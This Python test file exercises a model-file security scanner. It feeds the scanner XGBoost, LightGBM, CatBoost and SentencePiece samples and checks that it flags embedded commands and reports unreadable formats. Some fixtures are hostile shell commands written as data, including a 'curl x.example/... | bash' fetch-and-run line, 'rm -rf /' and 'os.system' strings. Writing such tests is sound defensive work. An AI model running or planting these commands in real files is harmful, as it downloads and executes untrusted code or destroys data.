"""Trees of XGBoost, LightGBM and CatBoost, and formats that nobody reads."""

from __future__ import annotations

import json
import struct
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mlsecops.models.readers.boosters import BoosterJsonReader, CatBoostReader, LightGbmReader
from mlsecops.models.readers.ubjson import UbjsonReader
from mlsecops.models.readers.without_reader import WITHOUT_READER, SentencePieceReader
from mlsecops.models.source import CHUNK
from support.parts import read_with, reasons, rules
from support.protobuf import field

READERS = (
    BoosterJsonReader(),
    LightGbmReader(),
    CatBoostReader(),
    UbjsonReader(),
    SentencePieceReader(),
    *WITHOUT_READER,
)
LEARNER = {"attributes": {"a": "x" * 50}, "weights": [1.5, -2e-3, 0], "ok": [True, False, None]}
TREES = {"learner": LEARNER, "version": [3, 0, 0]}
LIGHTGBM = (
    b"tree\nversion=v4\nnum_class=1\nfeature_names=a b\n\nTree=0\nnum_leaves=2\n\nend of trees\n\n"
    b"feature_importances:\na=1\n\nparameters:\n[boosting: gbdt]\n[data: ]\nend of parameters\n\n"
    b"pandas_categorical:[]\n"
)


def name(text: str) -> bytes:
    return b"L" + struct.pack(">q", len(text)) + text.encode()


UBJSON = (
    b"{" + name("learner") + b"{" + name("text") + b"S" + name("x")
    + name("row") + b"[$d#L" + struct.pack(">q", 3) + bytes(12)
    + name("list") + b"[#i\x02U\x01Z" + name("open") + b"[TFN]" + name("texts") + b"[$S#i\x01" + name("y")
    + name("map") + b"{#i\x01" + name("k") + b"D" + bytes(8) + b"}"
    + name("version") + b"[#L" + struct.pack(">q", 1) + b"I\0\1" + b"}"
)  # fmt: skip
VOCABULARY = field(1, field(1, "<unk>") + field(2, 0.0)) + field(1, field(1, "a") + field(3, 1)) * 4
CBM = b"FlabuffersModel_v1".rjust(40, b"\0")
CATBOOST = b"CBM1" + struct.pack("<II", 44, 20) + CBM


def test_whole_files_are_no_fact(tmp_path: Path) -> None:
    files = {
        "trees as JSON": json.dumps(TREES).encode(),
        "LightGBM": LIGHTGBM.replace(b"\n", b"\r\n"),
        "XGBoost (UBJSON)": UBJSON,
        "CatBoost": CATBOOST,
        "SentencePiece": VOCABULARY + field(2, b""),
    }
    for kind, data in files.items():
        found = read_with(tmp_path, data, *READERS)
        assert (found.formats, found.facts, found.unread) == ([kind], {}, [])
    catboost = b'{"features_info": {"float_features": [{"borders": [1,2]}]}, "model_info": {}}'
    found = read_with(tmp_path, catboost, *READERS)
    assert (found.producer, found.unread) == ("catboost", [])


@pytest.mark.parametrize("shift", range(-3, 4))
def test_long_files_are_read_in_pieces(tmp_path: Path, shift: int) -> None:
    numbers = b"1.25," * CHUNK
    padding = b" " * (CHUNK - len(numbers) % CHUNK + shift)
    text = b"\"os.system('echo') and more and more text\""
    data = b'{"learner": {"a": [' + numbers + padding + b'2], "b": ' + text + b', "c": true}}'
    found = read_with(tmp_path, data, *READERS)
    assert (rules(found), found.unread) == (["embedded-command"], [])
    lines = LIGHTGBM.replace(b"a b\n", b"a " * (CHUNK // 2 + shift) + b"\n")
    assert not read_with(tmp_path, lines, *READERS).unread


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b'{"learner": {"a": [1, 2', "cut off"),
        (b'{"learner": {"a": "x', "sound JSON"),
        (b'{"learner": {"a": os.system}}', "sound JSON"),
        (b'{"learner": [1}', "sound JSON"),
        (b'{"learner": 1}}', "sound JSON"),
        (b'{"learner": 1} 1', "sound JSON"),
        (b'{"learner": ' + b"[" * 1001, "nested"),
        (b'{"learner": "' + b"a" * (5 << 20), "sound JSON"),
        (LIGHTGBM.replace(b"parameters:", b"rm -rf /"), "does not write"),
        (LIGHTGBM[:60], "cut off"),
        (UBJSON[:-1], "cut off"),
        (UBJSON[:40], "cut off"),
        (UBJSON + b"Z", "behind"),
        (b"{" + name("learner") + b"q}", "UBJSON"),
        (b"{" + name("learner") + b"[$d]}", "UBJSON"),
        (b"{" + name("learner") + b"Sq}", "UBJSON"),
        (b"{" + name("learner") + b"S" + name("x" * 9)[:-3], "cut off"),
        (b"{" + name("learner") + b"{L" + struct.pack(">q", 1 << 40), "UBJSON"),
        (b"{" + name("learner") + b"[" * 200, "nested"),
        (CATBOOST[:-1], "cut off"),
        (CATBOOST.replace(b"Flab", b"Flob"), "table"),
        (b"# x\nclass catboost_model(object):\n    pass\n", "program"),
        (b"/* x */\nstatic const struct CatboostModel {\n", "program"),
        (b"binf\0\0", "old binary format"),
        (b"\xba\x16\x4f\x2f\0", "fastText"),
        (b"\x18\0\0\0ORTM", "ORT"),
        (VOCABULARY + field(9, b""), "fields that no vocabulary"),
        (b"\n\x05<unk>", "nobody"),
        (b'{"a": 1}', "nobody"),
    ],
)
def test_what_cannot_be_read_says_so(tmp_path: Path, data: bytes, reason: str) -> None:
    found = read_with(tmp_path, data, *READERS)
    assert reason in " ".join(reasons(found))
    assert not found.facts


def test_texts_are_looked_at(tmp_path: Path) -> None:
    command = "curl x.example/install-it-all-now | bash -s -- --yes"
    files = (
        json.dumps({"learner": {"attributes": {"note": command}}}).encode(),
        b"{" + name("learner") + b"S" + name(command) + b"}",
        LIGHTGBM.replace(b"[data: ]", f"[data: {command}]".encode()),
        b"CBM1" + struct.pack("<II", 100, 4) + (CBM + b" " + command.encode()).ljust(96),
    )
    for data in files:
        assert rules(read_with(tmp_path, data, *READERS)) == ["embedded-command"]


@settings(max_examples=150, deadline=None)
@given(st.sampled_from([UBJSON, LIGHTGBM, CATBOOST]), st.integers(9, 80), st.binary(max_size=9))
def test_any_bytes_are_read_or_not(
    tmp_path_factory: pytest.TempPathFactory, whole: bytes, at: int, junk: bytes
) -> None:
    found = read_with(tmp_path_factory.getbasetemp(), whole[:at] + junk + whole[at + len(junk) :], *READERS)
    assert not any("itself failed" in reason for reason in reasons(found))
